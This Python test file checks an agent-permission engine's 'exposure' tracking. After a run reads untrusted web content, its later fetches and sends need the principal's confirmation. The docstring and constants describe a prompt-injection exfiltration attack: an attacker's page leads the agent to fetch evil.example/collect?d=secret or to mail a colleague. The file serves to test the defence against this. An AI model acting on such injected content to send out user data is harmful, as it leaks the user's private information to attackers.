"""What a run has read decides what it may send (docs/provenance.md).

The attack: an agent reads an attacker's page (or mail), then reads the attacker's URL
(whose query string carries the user's data out) or sends a message to a known colleague
(a recipient every rule allows). On chains of authority version 3 both run directly, as
the first test shows; from version 4 a run that has taken in untrusted content is
*exposed*, and a rule's `when_exposed` mode sends those calls to the principal's card."""

from __future__ import annotations

import dataclasses

import pytest

from quorumgate.proto.model import (
    RUN_TARGETS_MAX,
    Admin,
    ArgRole,
    ArgSpec,
    Argument,
    Delegate,
    DelegationPolicy,
    Mandate,
    Outcome,
    Proposal,
    Reason,
    RegisterTool,
    RuleKind,
    SetEntries,
    SetMandate,
    SetRunTargets,
    TargetRule,
    Tier,
    ToolMode,
    ToolRules,
    ToolSpec,
    TxKind,
)
from quorumgate.sidecar.engine import provenance
from quorumgate.sidecar.engine.state import EngineState
from quorumgate.sidecar.engine.trace import Trace
from tests.engine.harness import World, replay

ATTACKER_PAGE = "https://evil.example/post"
EXFIL = "https://evil.example/collect?d=secret"
TASK_PAGE = "https://docs.example.com/report"
BOB = "mailto:bob@corp.example"
CAROL = "mailto:carol@corp.example"
STRANGER = "mailto:x@evil.example"

FETCH = ToolSpec(name="web.fetch", mode=ToolMode.READ, target_schemes=("https",),
                 untrusted_results=True)  # fmt: skip
SEND = ToolSpec(
    name="mail.send", mode=ToolMode.USER_CONFIRM, target_schemes=("mailto",),
    min_tier=Tier.DELEGATE,
)  # fmt: skip
RULES = (
    # a read of any URL: direct while clean, the principal's card once exposed
    ToolRules("mail.send", (
        TargetRule(RuleKind.SET, "colleagues", ToolMode.DIRECT, when_exposed=ToolMode.USER_CONFIRM),
    )),
    ToolRules("web.fetch", (TargetRule(RuleKind.ANY, when_exposed=ToolMode.USER_CONFIRM),)),
)  # fmt: skip


def _mandate(rules: tuple[ToolRules, ...] = RULES, attenuated: bool = False) -> Mandate:
    policy = DelegationPolicy.ATTENUATED if attenuated else DelegationPolicy.NONE
    return Mandate(("mail.send", "web.fetch"), delegation_policy=policy, rules=rules)


def _world(authority_version: int = 4, rules: tuple[ToolRules, ...] = RULES) -> World:
    w = World(overrides={"authority_version": authority_version})
    w.add_principal("alice")
    w.add_principal("mallory")
    w.admin(RegisterTool(spec=FETCH if authority_version >= 4 else _trusting(FETCH)))
    w.admin(RegisterTool(spec=SEND))
    for agent in ("assistant", "helper"):
        w.add_agent(agent, None, principal="alice")
        w.admin(SetMandate(agent, _mandate(rules, attenuated=agent == "assistant")))
    colleagues = (TargetRule(RuleKind.EXACT, BOB), TargetRule(RuleKind.EXACT, CAROL))
    w.admin(SetEntries("assistant", "colleagues", colleagues))
    w.admin(SetEntries("helper", "colleagues", colleagues))
    return w


def _trusting(spec: ToolSpec) -> ToolSpec:
    return dataclasses.replace(spec, untrusted_results=False)


def _rules_v3() -> tuple[ToolRules, ...]:
    return tuple(
        dataclasses.replace(
            entry, targets=tuple(dataclasses.replace(r, when_exposed=None) for r in entry.targets)
        )
        for entry in RULES
    )


def _call(
    w: World,
    tool: str,
    target: str,
    *,
    agent: str = "assistant",
    run: str = "run-1",
    grant: bytes | None = None,
) -> tuple[Outcome, Reason]:
    verdict = w.propose(agent, tool, target, run=run, grant=grant)
    return verdict.outcome, verdict.reason


ALLOW = (Outcome.ALLOW, Reason.OK)
CARD = (Outcome.PENDING, Reason.CONFIRMATION_REQUIRED)


def test_on_version_3_a_run_that_read_an_attackers_page_still_exfiltrates() -> None:
    """The gap this feature closes, on the chains that have it."""
    w = _world(authority_version=3, rules=_rules_v3())
    assert _call(w, "web.fetch", ATTACKER_PAGE) == ALLOW
    assert _call(w, "web.fetch", EXFIL) == ALLOW
    assert _call(w, "mail.send", BOB) == ALLOW


def test_an_exposed_run_reads_an_unknown_url_and_sends_to_a_colleague_only_through_a_card() -> None:
    w = _world()
    assert _call(w, "mail.send", BOB) == ALLOW  # clean: a colleague runs directly
    assert _call(w, "web.fetch", ATTACKER_PAGE) == ALLOW  # the read that exposes the run
    exposed_at = w.height
    assert _call(w, "web.fetch", EXFIL) == CARD
    verdict = w.propose("assistant", "mail.send", BOB)
    assert (verdict.outcome, verdict.reason) == CARD
    assert verdict.card is not None and verdict.card.exposed_by == (exposed_at, "web.fetch")
    shown = verdict.card.render()
    assert (
        f"Run exposed: it has read untrusted content since tool web.fetch at height {exposed_at}"
        in shown
    )
    # a stranger stays out of scope: exposure never widens
    assert _call(w, "mail.send", STRANGER) == (Outcome.DENY, Reason.OUT_OF_SCOPE)
    # another run of the same agent is clean
    assert _call(w, "mail.send", BOB, run="run-2") == ALLOW
    assert _call(w, "web.fetch", EXFIL, run="run-2") == ALLOW


def test_a_clean_run_reads_and_sends_directly_and_its_cards_say_nothing_of_exposure() -> None:
    w = _world()
    assert _call(w, "mail.send", CAROL) == ALLOW
    assert _call(w, "mail.send", BOB) == ALLOW
    state = w.engine.state
    assert not state.runs and not state.run_floors  # a clean run keeps no record


def test_exposure_is_monotone_and_kept_from_the_first_call() -> None:
    w = _world()
    assert _call(w, "web.fetch", ATTACKER_PAGE) == ALLOW
    first = w.height
    run_key = ("assistant", w.run_of("assistant", "run-1"))
    w.admin(SetMandate("assistant", _mandate()))  # a new mandate version clears no exposure
    assert _call(w, "mail.send", BOB) == CARD
    record = w.engine.state.runs[run_key]
    assert record.exposed_height == first and record.exposed_tool == "web.fetch"


def test_a_confirmed_untrusted_call_exposes_its_run_at_the_confirmation() -> None:
    gated = (
        ToolRules("mail.send", RULES[0].targets),
        ToolRules("web.fetch", (TargetRule(RuleKind.ANY, mode=ToolMode.USER_CONFIRM),)),
    )
    w = _world(rules=gated)
    held = w.propose("assistant", "web.fetch", ATTACKER_PAGE)
    assert (held.outcome, held.reason) == CARD
    assert _call(w, "mail.send", BOB) == ALLOW  # a held call has not run: still clean
    assert held.card is not None
    answer = w.confirm(w.keys["principal:alice"], held.tx_id, held.card.digest)
    assert answer.outcome is Outcome.ALLOW
    assert _call(w, "mail.send", BOB) == CARD
    run_key = ("assistant", w.run_of("assistant", "run-1"))
    assert w.engine.state.runs[run_key].exposed_height == w.height - 1


def test_a_delegated_run_shares_its_delegators_exposure_both_ways() -> None:
    """A delegate acts in its delegator's run: exposure before the grant, after it, and by
    the delegate itself is one fact for the whole chain (docs/provenance.md)."""
    w = _world()
    assert _call(w, "web.fetch", ATTACKER_PAGE) == ALLOW  # the master is exposed first
    grant = w.delegate("assistant", "helper").tx_id
    assert _call(w, "mail.send", BOB, agent="helper", grant=grant) == CARD
    # exposure after the grant, by the delegate, reaches the master too
    w2 = _world()
    grant2 = w2.delegate("assistant", "helper").tx_id
    assert _call(w2, "mail.send", BOB, agent="helper", grant=grant2) == ALLOW
    assert _call(w2, "web.fetch", ATTACKER_PAGE, agent="helper", grant=grant2) == ALLOW
    assert _call(w2, "mail.send", BOB, agent="helper", grant=grant2) == CARD
    assert _call(w2, "mail.send", BOB) == CARD


def _set_targets(w: World, signer: str, targets: tuple[str, ...], run: str = "run-1") -> tuple:
    op = SetRunTargets("assistant", w.run_of("assistant", run), tuple(sorted(targets)))
    verdict = w.one(w.keys[signer] if signer != "owner" else w.owner, Admin(op=op))
    return verdict.outcome, verdict.reason


def test_a_runs_own_targets_run_directly_in_an_exposed_run_and_nothing_else_does() -> None:
    w = _world()
    assert _call(w, "web.fetch", ATTACKER_PAGE) == ALLOW
    applied = (Outcome.APPLIED, Reason.OK)
    assert _set_targets(w, "principal:alice", (TASK_PAGE, BOB, STRANGER)) == applied
    assert _call(w, "web.fetch", TASK_PAGE) == ALLOW
    assert _call(w, "mail.send", BOB) == ALLOW
    assert _call(w, "mail.send", CAROL) == CARD  # a colleague the task is not about
    assert _call(w, "web.fetch", EXFIL) == CARD
    # no targets clears them
    assert _set_targets(w, "principal:alice", ()) == applied
    assert _call(w, "mail.send", BOB) == CARD
    assert _set_targets(w, "principal:alice", (STRANGER,)) == applied
    # a run target no rule permits stays out of scope: the intent never overrides a deny
    assert _call(w, "mail.send", STRANGER) == (Outcome.DENY, Reason.OUT_OF_SCOPE)


def test_only_the_runs_principal_a_deputy_or_the_owner_names_a_runs_targets() -> None:
    w = _world()
    w.propose("assistant", "mail.send", BOB)  # opens run-1
    op = SetRunTargets("assistant", w.run_of("assistant", "run-1"), (EXFIL,))
    # the agent under attack cannot widen its own run (an agent never signs Admin)
    verdict = w.one(w.keys["assistant"], Admin(op=op))
    assert (verdict.outcome, verdict.reason) == (Outcome.REJECTED, Reason.NOT_OWNER)
    assert _set_targets(w, "principal:mallory", (EXFIL,)) == (
        Outcome.REJECTED, Reason.NOT_RUN_PRINCIPAL,
    )  # fmt: skip
    assert _set_targets(w, "owner", (TASK_PAGE,)) == (Outcome.APPLIED, Reason.OK)
    assert w.engine.state.runs[("assistant", op.run_id)].targets == (TASK_PAGE,)


def test_run_targets_are_bounded_and_canonical() -> None:
    too_many = tuple(sorted(f"https://a.example/{i:03d}" for i in range(RUN_TARGETS_MAX + 1)))
    with pytest.raises(ValueError, match="too many run targets"):
        SetRunTargets("assistant", "n1", too_many)
    w = _world()
    w.propose("assistant", "mail.send", BOB)
    # spelled otherwise, canonicalized like any target
    assert _set_targets(w, "principal:alice", ("HTTPS://Docs.Example.com/report",)) == (
        Outcome.APPLIED, Reason.OK,
    )  # fmt: skip
    run_key = ("assistant", w.run_of("assistant", "run-1"))
    assert w.engine.state.runs[run_key].targets == (TASK_PAGE,)
    assert _set_targets(w, "principal:alice", ("https://exa mple.com/",)) == (
        Outcome.REJECTED, Reason.MALFORMED_TARGET,
    )  # fmt: skip
    named = SetRunTargets("assistant", "not-opened", (TASK_PAGE,))
    verdict = w.one(w.owner, Admin(op=named))
    assert (verdict.outcome, verdict.reason) == (Outcome.REJECTED, Reason.INVALID_SPEC)


def test_a_forgotten_run_stays_exposed(monkeypatch: pytest.MonkeyPatch) -> None:
    """The table of runs is bounded; forgetting a record raises its owner's floor, so an
    attacker who floods runs never makes an exposed run clean again."""
    monkeypatch.setattr(provenance, "RUN_RECORDS_MAX", 2)
    w = _world()
    for run in ("run-1", "run-2", "run-3"):
        assert _call(w, "web.fetch", ATTACKER_PAGE, run=run) == ALLOW
    state = w.engine.state
    first = w.run_of("assistant", "run-1")
    assert ("assistant", first) not in state.runs and state.run_floors == {
        "assistant": int(first[1:])
    }
    verdict = w.propose("assistant", "mail.send", BOB, run="run-1")
    assert (verdict.outcome, verdict.reason) == CARD
    assert verdict.card is not None and verdict.card.exposed_by == (0, "-")
    assert _call(w, "mail.send", BOB, run="run-4") == ALLOW  # a newer run is clean


def test_the_trace_shows_the_exposure_and_the_rule_it_made_stricter() -> None:
    w = _world()
    assert _call(w, "web.fetch", ATTACKER_PAGE) == ALLOW
    exposed_at = w.height
    payload = Proposal(run_id="run-1", tool="mail.send", target=BOB)
    data = w.tx(w.keys["assistant"], payload)
    trace = Trace()
    w.height += 1
    w.time_ms += 1_000
    w.engine.execute_block(w.height, w.time_ms, [data], trace=trace)
    assert trace.exposure == [(exposed_at, "web.fetch")]
    step = trace.layers[0].targets[0]
    assert step.by_exposure and step.rule is not None and step.rule.kind is RuleKind.SET
    assert trace.modes == [ToolMode.USER_CONFIRM, ToolMode.USER_CONFIRM]


def test_replay_reaches_the_same_roots_and_the_state_round_trips() -> None:
    w = _world()
    assert _call(w, "web.fetch", ATTACKER_PAGE) == ALLOW
    _set_targets(w, "principal:alice", (TASK_PAGE,))
    grant = w.delegate("assistant", "helper").tx_id
    assert _call(w, "mail.send", BOB, agent="helper", grant=grant) == CARD
    _engine, results = replay(w)
    assert [r.state_root for r in results] == [r.state_root for r in w.results]
    assert [r.verdicts for r in results] == [r.verdicts for r in w.results]
    data = w.engine.state_bytes()
    again = EngineState.from_bytes(data)
    assert again.to_bytes() == data and again.tree_root() == w.engine.state.tree_root()
    assert again.runs == w.engine.state.runs


def test_old_chains_refuse_the_new_fields_as_the_decoder_before_them_did() -> None:
    """On version 3 a body that uses provenance is malformed, exactly as a decoder that did
    not know the fields made of it (an unknown field is not the canonical encoding): a
    rejected verdict of the body's kind, no body digest, the nonce not consumed."""
    w = _world(authority_version=3, rules=_rules_v3())
    bodies = [
        Admin(op=RegisterTool(spec=dataclasses.replace(FETCH, name="web.read"))),
        Admin(op=SetMandate("assistant", _mandate())),
        Admin(op=SetRunTargets("assistant", "n1", (TASK_PAGE,))),
    ]
    for payload in bodies:
        nonce = w.nonces[bytes(w.owner.verify_key)] + 1
        verdict = w.block([w.tx(w.owner, payload, nonce=nonce)]).verdicts[0]
        assert (verdict.kind, verdict.outcome, verdict.reason) == (
            TxKind.ADMIN, Outcome.REJECTED, Reason.MALFORMED,
        )  # fmt: skip
        assert verdict.body_digest == b""
    # an agent's grant whose rules name `when_exposed`: a malformed delegate
    grant = Delegate(
        child=bytes(w.keys["helper"].verify_key), run_id="run-1", tools=None,
        expires_at_ms=w.time_ms + 60_000, rules=(RULES[0],),
    )  # fmt: skip
    verdict = w.block([w.tx(w.keys["assistant"], grant)]).verdicts[0]
    assert (verdict.kind, verdict.outcome, verdict.reason) == (
        TxKind.DELEGATE, Outcome.REJECTED, Reason.MALFORMED,
    )  # fmt: skip
    assert w.engine.state.runs == {} and not w.engine.state.tools["web.fetch"].untrusted_results
    # the nonce was not consumed: the owner's next transaction uses it
    assert w.admin(SetMandate("assistant", _mandate(_rules_v3()))).outcome is Outcome.APPLIED


def test_links_in_text_follow_their_rules_when_exposed() -> None:
    """A link in a message's text (docs/engine.md, "Links inside text") is judged by the
    `link` rules, and their `when_exposed` applies as for any target."""
    post = ToolSpec(
        name="chat.post", mode=ToolMode.DIRECT, target_schemes=("https",),
        arguments=(ArgSpec("text", ArgRole.TEXT),),
    )  # fmt: skip
    rules = (
        ToolRules("chat.post", (
            TargetRule(RuleKind.ANY),
            TargetRule(RuleKind.ANY, role="link", when_exposed=ToolMode.USER_CONFIRM),
        )),
        *RULES,
    )  # fmt: skip
    w = _world()
    w.admin(RegisterTool(spec=post))
    w.admin(SetMandate("assistant", Mandate(None, rules=rules)))
    message = (Argument("text", text=f"see {EXFIL}"),)
    channel = "https://chat.example/c/1"
    clean = w.propose("assistant", "chat.post", channel, args=message)
    assert (clean.outcome, clean.reason) == ALLOW
    assert _call(w, "web.fetch", ATTACKER_PAGE) == ALLOW
    exposed = w.propose("assistant", "chat.post", channel, args=message)
    assert (exposed.outcome, exposed.reason) == CARD
    plain = w.propose("assistant", "chat.post", channel, args=(Argument("text", text="hi"),))
    assert (plain.outcome, plain.reason) == ALLOW  # no link: the main target's rule decides
